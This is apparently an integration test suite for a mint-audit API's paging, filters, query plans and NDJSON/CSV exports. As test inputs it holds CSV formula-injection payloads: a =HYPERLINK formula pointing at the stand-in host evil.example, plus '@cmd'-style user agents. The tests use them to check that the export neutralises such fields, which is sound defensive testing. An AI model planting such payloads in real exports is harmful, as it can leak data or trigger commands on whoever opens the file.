import { CSV_COLUMNS } from '../libs/audit/src/mints/mint-audit.export';
import { MINT_AUDIT_COLUMNS, mintAuditWhere } from '../libs/audit/src/mints/mint-audit.repository';
import type { MintAuditFilterDto } from '../libs/audit/src/mints/mint-audit.dto';
import { ManualClock } from '../libs/common/src/clock';
import { allAuditPages } from './support/audit';
import { expectError, expectStatus, expectValidation } from './support/assertions';
import { createOrgWithAdmin, OrgFixture } from './support/fixtures';
import { client, Client } from './support/http';
import { createApiKey, putSinchVoice, SINCH_EXAMPLE_KEY, SINCH_EXAMPLE_SECRET } from './support/minting';
import { startTestApp, TestApp } from './support/test-app';

/**
 * Reading the mint audit: pages (limit, cursors, ties on `at`), every filter alone and combined against
 * the same question asked in SQL, the indexes behind each filter on a large table, and the NDJSON and
 * CSV exports. Most entries are written straight into mint_audit in SQL (paging and export do not look
 * at the hash chain), a few by real mints for the request metadata.
 */

const SINCH_PATH = '/api/calls/token/sinch';
const START = Date.UTC(2026, 5, 15, 12, 0, 0);
const CONTRACT_HEADER = 'id,orgId,at,provider,action,actorKind,actorId,subjectUserId,target,outcome,code,tokenFingerprint,expiresAt,ip,userAgent,requestId';
/** A user agent a spreadsheet would run, with commas and quotes around. */
const HOSTILE_UA = '=HYPERLINK("http://evil.example/?a=1,b=2","open"), "quoted", Mozilla/5.0';
const NASTY_AGENTS = ['plain/1.0', 'a,b,c', 'say "hi"', '=1+2', '+SUM(A1)', '-2+3', '@cmd', 'two\nlines', 'crlf\r\nx', '\tTab', '', 'ünïcödé ☎'];
const SQL_ROWS = 1200;
const BULK_ROWS = 200_000;

let app: TestApp;
let a: OrgFixture;
let b: OrgFixture;
/** Org A's API key that may read the audit; one that may only mint; org B's reader; the big org's reader. */
let readerA: Client;
let minterA: Client;
let readerB: Client;
let readerC: Client;
let tokenC: string;
let orgC: string;
// Actor ids are user or API key ids, UUIDs (the filter refuses anything else).
const ACTORS = ['7a1d0000-0000-4000-8000-a00000000001', '7a1d0000-0000-4000-8000-a00000000002', '7a1d0000-0000-4000-8000-a00000000003'];
/** The bulk org's actors are this prefix and 0..49 at the end; the filters below pick actor 7. */
const BULK_ACTOR_PREFIX = '7a1d0000-0000-4000-8000-';
const BULK_ACTOR_7 = `${BULK_ACTOR_PREFIX}000000000007`;
const SUBJECTS = ['5f0c6f4e-1a2b-4c3d-8e9f-000000000001', '5f0c6f4e-1a2b-4c3d-8e9f-000000000002', '5f0c6f4e-1a2b-4c3d-8e9f-000000000003'];

const iso = (ms: number) => new Date(ms).toISOString();

/** Ids of org A's entries matching a WHERE (written here by hand), in the API's order. */
async function sqlIds(orgId: string, where: string, params: unknown[]): Promise<string[]> {
  const rows = await app.db.query<{ id: string }>(`SELECT id FROM mint_audit WHERE org_id = $1 ${where ? `AND ${where}` : ''} ORDER BY at DESC, seq DESC`, [orgId, ...params]);
  return rows.map((row) => row.id);
}

/** A whole RFC 4180 document (CRLF records, quoted fields may hold CR, LF, commas and doubled quotes). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (char === '"') {
        quoted = false;
        i += 1;
        if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
      } else {
        field += char;
        i += 1;
      }
    } else if (char === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (char === ',') {
      record.push(field);
      field = '';
      i += 1;
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (char === '\r' || char === '\n') {
      throw new Error(`bare line break in an unquoted field at ${i}`);
    } else {
      field += char;
      i += 1;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

/** What a CSV field must read back as for an entry value: empty for null, formulas behind an apostrophe. */
const csvValue = (value: string | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

function csvFieldsOf(entry: any): string[] {
  const values: Record<string, string | null> = { ...entry, actorKind: entry.actor.kind, actorId: entry.actor.id };
  return CSV_COLUMNS.map((column) => csvValue(values[column]));
}

async function exportText(reader: Client, query: string): Promise<{ status: number; contentType: string; text: string; response: Awaited<ReturnType<Client['get']>> }> {
  const response = await reader.get(`/api/audit/mints/export?${query}`);
  return { status: response.status, contentType: response.headers.get('content-type') ?? '', text: response.text, response };
}

function ndjsonEntries(text: string): any[] {
  if (text === '') return [];
  expect(text.endsWith('\n')).toBe(true);
  return text
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line));
}

beforeAll(async () => {
  const clock = new ManualClock(START);
  app = await startTestApp({ clock });
  [a, b] = [await createOrgWithAdmin(app, 'Export A'), await createOrgWithAdmin(app, 'Export B')];
  await putSinchVoice(a.admin, SINCH_EXAMPLE_KEY, SINCH_EXAMPLE_SECRET);
  await putSinchVoice(b.admin, SINCH_EXAMPLE_KEY, SINCH_EXAMPLE_SECRET);
  readerA = client(app.url, (await createApiKey(a.admin, ['READ_AUDIT'], 'reader A')).token);
  minterA = client(app.url, (await createApiKey(a.admin, ['CREATE_CALL_TOKEN'], 'minter A')).token);
  readerB = client(app.url, (await createApiKey(b.admin, ['READ_AUDIT'], 'reader B')).token);
  // The big org: a child of A, read through an API key that acts in it.
  const child = await a.operator.post('/api/orgs', { name: 'Export C', parentOrgId: a.orgId });
  if (child.status !== 201) throw new Error(`child org: ${child.status} ${child.text}`);
  orgC = child.body.id;
  tokenC = (await createApiKey(a.admin, ['READ_AUDIT'], { name: 'reader C', subOrgId: orgC })).token;
  readerC = client(app.url, tokenC);

  // Real mints: request metadata (a hostile user agent), an API key's mint, a denied attempt.
  const mints = [
    await a.admin.get(SINCH_PATH, { headers: { 'user-agent': HOSTILE_UA } }),
    await a.admin.get(SINCH_PATH, { headers: { 'user-agent': 'curl/8.5.0' } }),
    await minterA.get(`${SINCH_PATH}?userId=${a.adminId}`, { headers: { 'user-agent': '@at-start, and "quotes"' } }),
    await b.admin.get(SINCH_PATH),
  ];
  for (const response of mints) if (response.status !== 200) throw new Error(`mint: ${response.status} ${response.text}`);
  const denied = await minterA.get(SINCH_PATH, { headers: { 'user-agent': '-1+1' } });
  if (denied.status !== 400) throw new Error(`denied mint: ${denied.status} ${denied.text}`);

  // Org A: SQL_ROWS more entries, ten to a timestamp, every filter value represented.
  await app.db.query(
    `INSERT INTO mint_audit (org_id, at, seq, id, provider, action, actor_kind, actor_id, subject_user_id, target, outcome, code,
                             token_fingerprint, expires_at, ip, user_agent, request_id, prev_hash, hash)
     SELECT $1, $2::timestamptz - (i / 10) * interval '1 second', 100000 + i, gen_random_uuid(),
            (ARRAY['sinch', 'twilio', 'signalwire-chat', 'call-token', 'sinch-oauth'])[1 + i % 5],
            CASE WHEN i % 5 = 3 THEN (ARRAY['mint', 'redeem', 'revoke'])[1 + (i / 5) % 3] ELSE 'mint' END,
            CASE WHEN i % 3 = 0 THEN 'api_key' ELSE 'user' END,
            CASE WHEN i % 17 = 0 THEN NULL ELSE ($3::text[])[1 + i % 3] END,
            CASE WHEN i % 4 = 0 THEN NULL ELSE ($4::uuid[])[1 + (i / 2) % 3] END,
            'target-' || i,
            CASE WHEN i % 11 = 0 THEN 'denied' WHEN i % 13 = 0 THEN 'failed' ELSE 'issued' END,
            CASE WHEN i % 11 = 0 THEN 'MISSING_SCOPE' WHEN i % 13 = 0 THEN 'PROVIDER_UNAVAILABLE' END,
            substr(md5(i::text), 1, 16), $2::timestamptz + interval '10 minutes', '10.0.0.' || (i % 250),
            ($5::text[])[1 + i % ${NASTY_AGENTS.length}], 'sql-' || i, '\\x00'::bytea, '\\x00'::bytea
       FROM generate_series(1, ${SQL_ROWS}) AS i`,
    [a.orgId, new Date(START), ACTORS, SUBJECTS, NASTY_AGENTS],
  );
  // Org B: entries with the very same values, which A must never see.
  await app.db.query(
    `INSERT INTO mint_audit (org_id, at, seq, id, provider, action, actor_kind, actor_id, subject_user_id, outcome, user_agent, prev_hash, hash)
     SELECT $1, $2::timestamptz - (i / 10) * interval '1 second', 100000 + i, gen_random_uuid(), 'twilio', 'mint', 'user',
            ($3::text[])[1 + i % 3], ($4::uuid[])[1 + i % 3], 'issued', 'org-b', '\\x00'::bytea, '\\x00'::bytea
       FROM generate_series(1, 300) AS i`,
    [b.orgId, new Date(START), ACTORS, SUBJECTS],
  );
  // The big org C (200k entries over June and July) and twenty more orgs (1000 each) around it.
  const filled = Date.now();
  await app.db.query(
    `INSERT INTO mint_audit (org_id, at, seq, id, provider, action, actor_kind, actor_id, subject_user_id, target, outcome, code,
                             token_fingerprint, ip, user_agent, request_id, prev_hash, hash)
     SELECT CASE WHEN i <= ${BULK_ROWS} THEN $1::uuid ELSE md5('org' || (i % 20))::uuid END,
            timestamptz '2026-06-01T00:00:00Z' + (i % ${BULK_ROWS}) * interval '25 seconds', i, gen_random_uuid(),
            CASE WHEN i % 10 = 0 THEN 'twilio' WHEN i % 10 = 1 THEN 'call-token' ELSE 'sinch' END,
            CASE WHEN i % 100 = 1 THEN 'redeem' WHEN i % 100 = 11 THEN 'revoke' ELSE 'mint' END,
            'user', '${BULK_ACTOR_PREFIX}' || lpad((i % 50)::text, 12, '0'), md5('subject' || (i % 1000))::uuid, 'sinch:app',
            CASE WHEN i % 25 = 0 THEN 'denied' WHEN i % 100 = 7 THEN 'failed' ELSE 'issued' END,
            CASE WHEN i % 25 = 0 THEN 'RATE_LIMITED' END,
            substr(md5(i::text), 1, 16), '192.0.2.1', 'bulk/1.0', 'bulk-' || i, '\\x00'::bytea, '\\x00'::bytea
       FROM generate_series(1, ${BULK_ROWS + 20_000}) AS i`,
    [orgC],
  );
  await app.db.query('ANALYZE mint_audit');
  console.log(`filled mint_audit with ${BULK_ROWS + 20_000} rows and analyzed it in ${Date.now() - filled} ms`);
});

afterAll(async () => {
  await app?.close();
});

describe('paging', () => {
  it('pages through entries that share a timestamp: every entry once, newest first', async () => {
    const expected = await sqlIds(a.orgId, '', []);
    expect(expected.length).toBe(SQL_ROWS + 4);
    const items = await allAuditPages(readerA, '/api/audit/mints', 37);
    expect(items.map((item) => item.id)).toEqual(expected);
    // Within one window of tied timestamps, page one entry at a time (and three at a time).
    const from = iso(START - 30_000);
    const to = iso(START - 25_000);
    const window = await sqlIds(a.orgId, 'at >= $2 AND at < $3', [new Date(from), new Date(to)]);
    expect(window).toHaveLength(50);
    for (const limit of [1, 3]) {
      const paged = await allAuditPages(readerA, `/api/audit/mints?from=${from}&to=${to}`, limit);
      expect(paged.map((item) => item.id)).toEqual(window);
    }
  });

  it('takes limit 1..500 (default 100) and refuses anything else with 400', async () => {
    for (const [limit, expected] of [
      [1, 1],
      [7, 7],
      [100, 100],
      [500, 500],
    ] as const) {
      const response = await readerA.get(`/api/audit/mints?limit=${limit}`);
      expectStatus(response, 200);
      expect(response.body.items).toHaveLength(expected);
      expect(typeof response.body.nextCursor).toBe('string');
    }
    const byDefault = await readerA.get('/api/audit/mints');
    expect(byDefault.body.items).toHaveLength(100);
    for (const limit of ['0', '501', 'abc', '-1', '1.5', '', '1e3']) {
      expectValidation(await readerA.get(`/api/audit/mints?limit=${limit}`), 'limit');
    }
  });

  it("refuses a tampered cursor, another org's, an events cursor and junk with 400 VALIDATION_FAILED", async () => {
    const first = await readerA.get('/api/audit/mints?limit=2');
    const cursor: string = first.body.nextCursor;
    const [payload, signature] = cursor.split('.');
    const position = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
    const forgedPayload = Buffer.from(JSON.stringify({ ...position, seq: position.seq + 1 })).toString('base64url');
    const flipped = `${signature.slice(0, 5)}${signature[5] === 'A' ? 'B' : 'A'}${signature.slice(6)}`;
    const otherOrg = (await readerB.get('/api/audit/mints?limit=1')).body.nextCursor as string;
    const events = (await readerA.get('/api/audit/events?limit=1')).body.nextCursor as string;
    expect(otherOrg).toEqual(expect.any(String));
    expect(events).toEqual(expect.any(String));
    const bad = [`${forgedPayload}.${signature}`, `${payload}.${flipped}`, otherOrg, events, 'abc', 'a.b', '.', `${cursor}.x`, 'x'.repeat(600), '%00'];
    for (const value of bad) {
      const response = await readerA.get(`/api/audit/mints?cursor=${encodeURIComponent(value)}`);
      expectValidation(response, 'cursor');
    }
    // The untouched cursor still works.
    expectStatus(await readerA.get(`/api/audit/mints?limit=2&cursor=${encodeURIComponent(cursor)}`), 200);
  });
});

describe('filters return exactly what SQL returns', () => {
  const t1 = iso(START - 40_000);
  const t2 = iso(START - 90_000);
  const cases: Array<[string, string, string, unknown[]]> = [
    ['provider', 'provider=twilio', "provider = 'twilio'", []],
    ['provider call-token', 'provider=call-token', "provider = 'call-token'", []],
    ['outcome issued', 'outcome=issued', "outcome = 'issued'", []],
    ['outcome denied', 'outcome=denied', "outcome = 'denied'", []],
    ['outcome failed', 'outcome=failed', "outcome = 'failed'", []],
    ['action redeem', 'action=redeem', "action = 'redeem'", []],
    ['action mint', 'action=mint', "action = 'mint'", []],
    ['actorId', `actorId=${ACTORS[1]}`, 'actor_id = $2', [ACTORS[1]]],
    ['subjectUserId', `subjectUserId=${SUBJECTS[2]}`, 'subject_user_id = $2', [SUBJECTS[2]]],
    ['from (inclusive)', `from=${t1}`, 'at >= $2', [new Date(t1)]],
    ['to (exclusive)', `to=${t1}`, 'at < $2', [new Date(t1)]],
    ['from and to', `from=${t2}&to=${t1}`, 'at >= $2 AND at < $3', [new Date(t2), new Date(t1)]],
    ['provider and outcome', 'provider=sinch&outcome=denied', "provider = 'sinch' AND outcome = 'denied'", []],
    ['provider and action', 'provider=call-token&action=revoke', "provider = 'call-token' AND action = 'revoke'", []],
    ['actor and subject', `actorId=${ACTORS[0]}&subjectUserId=${SUBJECTS[1]}`, 'actor_id = $2 AND subject_user_id = $3', [ACTORS[0], SUBJECTS[1]]],
    [
      'all of them',
      `provider=twilio&outcome=issued&action=mint&actorId=${ACTORS[2]}&subjectUserId=${SUBJECTS[0]}&from=${t2}&to=${iso(START)}`,
      "provider = 'twilio' AND outcome = 'issued' AND action = 'mint' AND actor_id = $2 AND subject_user_id = $3 AND at >= $4 AND at < $5",
      [ACTORS[2], SUBJECTS[0], new Date(t2), new Date(START)],
    ],
    ['nothing matches', 'provider=sinch-oauth&action=redeem', "provider = 'sinch-oauth' AND action = 'redeem'", []],
  ];

  it.each(cases)('%s', async (_label, query, where, params) => {
    const expected = await sqlIds(a.orgId, where, params);
    const items = await allAuditPages(readerA, `/api/audit/mints?${query}`, 233);
    expect(items.map((item) => item.id)).toEqual(expected);
    for (const item of items) expect(item.orgId).toBe(a.orgId);
  });

  it('refuses unknown filter values with 400', async () => {
    for (const query of ['provider=skype', 'outcome=ok', 'action=delete', 'subjectUserId=not-a-uuid', 'from=2026-13-01', 'to=yesterday', `actorId=${'x'.repeat(65)}`]) {
      expectError(await readerA.get(`/api/audit/mints?${query}`), 400, 'VALIDATION_FAILED');
    }
  });
});

describe(`indexes on ${BULK_ROWS} entries of one org`, () => {
  interface PlanNode {
    'Node Type': string;
    'Relation Name'?: string;
    'Index Name'?: string;
    Plans?: PlanNode[];
  }

  const nodesOf = (node: PlanNode): PlanNode[] => [node, ...(node.Plans ?? []).flatMap(nodesOf)];

  /** The plan of the very query MintAuditQuery.page runs for this filter (and cursor). */
  async function planOf(filter: MintAuditFilterDto, before?: { at: string; seq: number }): Promise<PlanNode[]> {
    const where = mintAuditWhere(orgC, filter, before);
    const sql = `SELECT ${MINT_AUDIT_COLUMNS} FROM mint_audit WHERE ${where.sql} ORDER BY at DESC, seq DESC LIMIT ${100 + 1}`;
    const [row] = await app.db.query<{ 'QUERY PLAN': Array<{ Plan: PlanNode }> }>(`EXPLAIN (FORMAT JSON) ${sql}`, where.params);
    return nodesOf(row['QUERY PLAN'][0].Plan);
  }

  const filters: Array<[string, MintAuditFilterDto]> = [
    ['no filter', {}],
    ['provider', { provider: 'twilio' }],
    ['outcome denied', { outcome: 'denied' }],
    ['outcome failed', { outcome: 'failed' }],
    ['outcome issued', { outcome: 'issued' }],
    ['action redeem', { action: 'redeem' }],
    ['action mint', { action: 'mint' }],
    ['actorId', { actorId: BULK_ACTOR_7 }],
    ['subjectUserId', { subjectUserId: '' }],
    ['from', { from: '2026-07-10T00:00:00.000Z' }],
    ['to', { to: '2026-06-10T00:00:00.000Z' }],
    ['from and to', { from: '2026-06-20T00:00:00.000Z', to: '2026-07-05T00:00:00.000Z' }],
    ['provider and outcome', { provider: 'sinch', outcome: 'denied' }],
    ['actorId and from', { actorId: BULK_ACTOR_7, from: '2026-07-01T00:00:00.000Z' }],
  ];

  /** Partitions that hold entries; an empty one costs nothing to scan, so the planner may well scan it. */
  let filled: Set<string>;

  beforeAll(async () => {
    const [subject] = await app.db.query<{ id: string }>("SELECT md5('subject7')::uuid::text AS id");
    for (const [, filter] of filters) if (filter.subjectUserId === '') filter.subjectUserId = subject.id;
    const sizes = await app.db.query<{ name: string; rows: number }>(
      "SELECT c.relname AS name, c.reltuples::float8 AS rows FROM pg_inherits i JOIN pg_class c ON c.oid = i.inhrelid WHERE i.inhparent = 'mint_audit'::regclass",
    );
    filled = new Set(sizes.filter((size) => size.rows > 1000).map((size) => size.name));
    expect([...filled].sort()).toEqual(['mint_audit_p202606', 'mint_audit_p202607']);
  });

  it.each(filters)('%s: the partitions that hold entries are read through their indexes, never a Seq Scan', async (_label, filter) => {
    for (const before of [undefined, { at: '2026-07-01T12:00:00.000Z', seq: 100_000 }]) {
      const nodes = await planOf(filter, before);
      const plan = nodes.map(
        (node) => `${node['Node Type']}${node['Relation Name'] ? ` on ${node['Relation Name']}` : ''}${node['Index Name'] ? ` using ${node['Index Name']}` : ''}`,
      );
      // Every scan of a partition that holds entries goes through one of the partition's indexes (an
      // index scan, or a bitmap heap scan over a bitmap index scan when few rows match) ...
      const partitionIndex = (node: PlanNode) => node['Index Name']?.startsWith('mint_audit_p') === true;
      const scans = nodes.filter((node) => filled.has(node['Relation Name'] ?? ''));
      const indexed = (node: PlanNode) =>
        (/^(Index Scan|Index Only Scan)$/.test(node['Node Type']) && partitionIndex(node)) ||
        (node['Node Type'] === 'Bitmap Heap Scan' && nodesOf(node).some((child) => child['Node Type'] === 'Bitmap Index Scan' && partitionIndex(child)));
      expect({ filter, before, plan, notIndexed: scans.filter((node) => !indexed(node)).length }).toEqual({ filter, before, plan, notIndexed: 0 });
      expect(scans.length).toBeGreaterThan(0);
      // ... and nothing reads a partition that holds entries sequentially.
      expect({ plan, seqScans: nodes.filter((node) => node['Node Type'] === 'Seq Scan' && filled.has(node['Relation Name'] ?? '')).length }).toEqual({ plan, seqScans: 0 });
    }
  });

  it('serves a page of the big org over HTTP (timing logged, not asserted)', async () => {
    const timings: string[] = [];
    for (const query of ['', 'provider=twilio', 'outcome=denied', `actorId=${BULK_ACTOR_7}`, 'from=2026-07-01T00:00:00.000Z', 'action=redeem']) {
      const started = process.hrtime.bigint();
      const response = await readerC.get(`/api/audit/mints?${query}${query ? '&' : ''}limit=100`);
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      expectStatus(response, 200);
      expect(response.body.items).toHaveLength(100);
      const next = await readerC.get(`/api/audit/mints?${query}${query ? '&' : ''}limit=100&cursor=${encodeURIComponent(response.body.nextCursor)}`);
      expectStatus(next, 200);
      timings.push(`${query || '(no filter)'}: ${ms.toFixed(1)} ms`);
    }
    console.log(`first page of ${BULK_ROWS} entries over HTTP: ${timings.join('; ')}`);
  });
});

describe('GET /api/audit/mints/export', () => {
  it('format=ndjson: one JSON entry per line, the same entries the pages give, newest first', async () => {
    const exported = await exportText(readerA, 'format=ndjson');
    expect(exported.status).toBe(200);
    expect(exported.contentType).toMatch(/^application\/x-ndjson/);
    const entries = ndjsonEntries(exported.text);
    const paged = await allAuditPages(readerA, '/api/audit/mints', 500);
    expect(entries).toHaveLength(paged.length);
    expect(new Set(entries.map((entry) => JSON.stringify(entry)))).toEqual(new Set(paged.map((entry) => JSON.stringify(entry))));
    expect(entries.map((entry) => entry.id)).toEqual(await sqlIds(a.orgId, '', []));
    // The hostile user agent is kept as it was sent.
    expect(entries.filter((entry) => entry.userAgent === HOSTILE_UA)).toHaveLength(1);
  });

  it('applies the filters to exports', async () => {
    const queries = [
      'provider=twilio',
      'outcome=denied',
      'action=revoke',
      `actorId=${ACTORS[2]}`,
      `subjectUserId=${SUBJECTS[0]}`,
      `from=${iso(START - 20_000)}`,
      `to=${iso(START - 100_000)}`,
      `provider=sinch&outcome=issued&actorId=${ACTORS[0]}&from=${iso(START - 90_000)}&to=${iso(START)}`,
    ];
    for (const query of queries) {
      const ndjson = await exportText(readerA, `format=ndjson&${query}`);
      expect(ndjson.status).toBe(200);
      const paged = await allAuditPages(readerA, `/api/audit/mints?${query}`, 500);
      expect({ query, ids: ndjsonEntries(ndjson.text).map((entry) => entry.id) }).toEqual({ query, ids: paged.map((entry) => entry.id) });
      const csv = await exportText(readerA, `format=csv&${query}`);
      expect(csv.status).toBe(200);
      expect({
        query,
        ids: parseCsv(csv.text)
          .slice(1)
          .map((record) => record[0]),
      }).toEqual({ query, ids: paged.map((entry) => entry.id) });
    }
  });

  it('format=csv: text/csv, the contract header, one record per entry, each field as the entry has it', async () => {
    const exported = await exportText(readerA, 'format=csv');
    expect(exported.status).toBe(200);
    expect(exported.contentType).toMatch(/^text\/csv/);
    expect(exported.text.startsWith(`${CONTRACT_HEADER}\r\n`)).toBe(true);
    const records = parseCsv(exported.text);
    expect(records[0].join(',')).toBe(CONTRACT_HEADER);
    const paged = await allAuditPages(readerA, '/api/audit/mints', 500);
    expect(records).toHaveLength(paged.length + 1);
    const byId = new Map(paged.map((entry) => [entry.id, entry]));
    for (const record of records.slice(1)) {
      expect(record).toHaveLength(CSV_COLUMNS.length);
      const entry = byId.get(record[0]);
      expect(entry).toBeDefined();
      expect(record).toEqual(csvFieldsOf(entry));
    }
    expect(new Set(records.slice(1).map((record) => record[0]))).toEqual(new Set(byId.keys()));
  });

  it('keeps a user agent with commas, quotes and a leading = in one field, neutralised', async () => {
    const exported = await exportText(readerA, 'format=csv&provider=sinch&to=' + iso(START + 1));
    const records = parseCsv(exported.text);
    const column = CSV_COLUMNS.indexOf('userAgent');
    const agents = records.slice(1).map((record) => record[column]);
    expect(agents).toContain(`'${HOSTILE_UA}`);
    expect(agents).toContain(`'@at-start, and "quotes"`);
    expect(agents).toContain('curl/8.5.0');
    // The raw text shows the quoting: the field is quoted, its quotes doubled, the = behind an apostrophe.
    expect(exported.text).toContain(`"'${HOSTILE_UA.replace(/"/g, '""')}"`);
    // No field of the whole export starts a formula.
    for (const record of parseCsv((await exportText(readerA, 'format=csv')).text).slice(1)) {
      for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }
    const denied = records
      .slice(1)
      .find(
        (record) =>
          record[CSV_COLUMNS.indexOf('outcome')] === 'denied' &&
          record[CSV_COLUMNS.indexOf('requestId')] !== '' &&
          !record[CSV_COLUMNS.indexOf('requestId')].startsWith('sql-'),
      );
    expect(denied?.[column]).toBe("'-1+1");
  });

  it('refuses a missing or unknown format, and bad filters, with 400', async () => {
    for (const query of ['', 'format=', 'format=xml', 'format=CSV', 'format=json', 'format=csv&provider=skype', 'format=ndjson&from=soon']) {
      expectError(await readerA.get(`/api/audit/mints/export?${query}`), 400, 'VALIDATION_FAILED');
    }
    expectValidation(await readerA.get('/api/audit/mints/export'), 'format');
  });

  it('requires READ_AUDIT', async () => {
    expectError(await minterA.get('/api/audit/mints/export?format=ndjson'), 403, 'MISSING_SCOPE');
    expectError(await client(app.url).get('/api/audit/mints/export?format=csv'), 401, 'UNAUTHORIZED');
  });

  it("never shows another org's entries", async () => {
    const bIds = new Set(await sqlIds(b.orgId, '', []));
    for (const format of ['ndjson', 'csv']) {
      const exported = await exportText(readerA, `format=${format}`);
      const ids =
        format === 'ndjson'
          ? ndjsonEntries(exported.text).map((entry) => entry.id)
          : parseCsv(exported.text)
              .slice(1)
              .map((record) => record[0]);
      expect(ids.filter((id) => bIds.has(id))).toEqual([]);
      expect(exported.text).not.toContain(b.orgId);
      expect(exported.text).not.toContain(orgC);
    }
    const fromB = ndjsonEntries((await exportText(readerB, 'format=ndjson')).text);
    expect(fromB).toHaveLength(bIds.size);
    for (const entry of fromB) expect(entry.orgId).toBe(b.orgId);
  });

  it('streams 20k entries to the end, as NDJSON and as CSV', async () => {
    const expected = await sqlIds(orgC, "provider = 'twilio'", []);
    expect(expected.length).toBe(BULK_ROWS / 10);
    const started = Date.now();
    const ndjson = await exportText(readerC, 'format=ndjson&provider=twilio');
    expect(ndjson.status).toBe(200);
    const entries = ndjsonEntries(ndjson.text);
    expect(entries.map((entry) => entry.id)).toEqual(expected);
    const csv = await exportText(readerC, 'format=csv&provider=twilio');
    const records = parseCsv(csv.text);
    expect(records).toHaveLength(expected.length + 1);
    expect(records.slice(1).map((record) => record[0])).toEqual(expected);
    console.log(`exported ${expected.length} entries as NDJSON and as CSV in ${Date.now() - started} ms`);
  });

  it('gives its database connection back when the client goes away mid-export', async () => {
    // More abandoned exports than the pool has connections: a leak would starve later requests.
    for (let i = 0; i < 25; i += 1) {
      const controller = new AbortController();
      const response = await fetch(`${app.url}/api/audit/mints/export?format=ndjson`, {
        headers: { authorization: `Bearer ${tokenC}` },
        signal: controller.signal,
      });
      // The export really started streaming (a first chunk of entries arrived) before the client left.
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      const first = await reader.read();
      expect(first.done).toBe(false);
      expect(first.value!.byteLength).toBeGreaterThan(0);
      controller.abort();
      // ... and it was cut off by the abort, not finished.
      await expect(reader.read()).rejects.toMatchObject({ name: 'AbortError' });
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    const page = await readerC.get('/api/audit/mints?limit=5');
    expectStatus(page, 200);
    const exported = await exportText(readerC, 'format=ndjson&action=revoke');
    expect(ndjsonEntries(exported.text)).toHaveLength(BULK_ROWS / 100);
  });
});
